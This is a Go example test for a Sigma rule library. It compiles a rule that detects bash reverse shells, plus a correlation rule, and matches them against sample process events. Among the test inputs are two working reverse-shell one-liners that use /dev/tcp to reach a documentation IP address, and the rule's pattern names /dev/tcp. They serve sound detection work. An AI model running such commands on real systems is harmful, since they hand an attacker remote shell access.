package sigma_test

import (
	"fmt"
	"time"

	"github.com/hauberk/hauberk/sigma"
)

// Example compiles a rule and a correlation, matches events, and follows the
// correlation.
func Example() {
	const text = `
title: Reverse shell by bash
id: 6e3a3bd0-0f6c-4d3c-9d5e-1f4b8a0d8f11
name: reverse_shell
logsource: {category: process_creation, product: linux}
detection:
    selection:
        Image|endswith: /bash
        CommandLine|contains: /dev/tcp/
    condition: selection
level: high
tags: [attack.execution, attack.t1059.004]
---
title: Several reverse shells by one user
correlation:
    type: event_count
    rules: [reverse_shell]
    group-by: [User]
    timespan: 5m
    condition: {gte: 2}
level: critical
---
title: A rule with a mistake
logsource: {category: process_creation, product: linux}
detection:
    selection:
        Image|endwith: /nc
    condition: selection
`
	rules, errs := sigma.Parse("example.yml", []byte(text))
	for _, err := range errs {
		fmt.Println(err)
	}

	// The caller's own vocabulary: here three ECS fields.
	const executable, commandLine, user = 0, 1, 2
	schema, err := sigma.NewSchema([]sigma.Field{
		executable:  {Name: "process.executable", Kind: sigma.KindText},
		commandLine: {Name: "process.command_line", Kind: sigma.KindText},
		user:        {Name: "user.name", Kind: sigma.KindText},
	})
	if err != nil {
		fmt.Println(err)
		return
	}
	set, errs, err := sigma.Compile(rules, sigma.Options{
		Schema:  schema,
		Classes: []sigma.Class{{Name: "exec", Sources: []sigma.LogSource{{Category: "process_creation", Product: "linux"}}}},
	})
	if err != nil || len(errs) > 0 {
		fmt.Println(err, errs)
		return
	}

	scratch := set.NewScratch() // one per goroutine
	correlator := sigma.NewCorrelator(set, sigma.Limits{})
	start := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	for i, line := range []string{"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "bash -l", "BASH -c 'exec 5<>/dev/tcp/192.0.2.1/53'"} {
		ev := sigma.Record{
			executable:  sigma.Text("/usr/bin/bash"),
			commandLine: sigma.Text(line),
			user:        sigma.Text("www-data"),
		}
		matches := set.Match(ev, 0, scratch)
		for _, id := range matches {
			r := set.Rule(id)
			fmt.Println("event", i, r.Title, r.Level, r.Techniques(), "finding of its own:", set.Standalone(id))
		}
		at := start.Add(time.Duration(i) * time.Minute)
		for _, hit := range correlator.Observe(ev, matches, at, fmt.Sprint("event ", i)) {
			fmt.Println(set.Rule(hit.Rule).Title, hit.Group, hit.Value, hit.Evidence)
		}
	}
	// Output:
	// example.yml:27:9: rule "A rule with a mistake": modifier "endwith" does not exist
	// event 0 Reverse shell by bash high [T1059.004] finding of its own: false
	// event 2 Reverse shell by bash high [T1059.004] finding of its own: false
	// Several reverse shells by one user [{User www-data}] 2 [event 0 event 2]
}
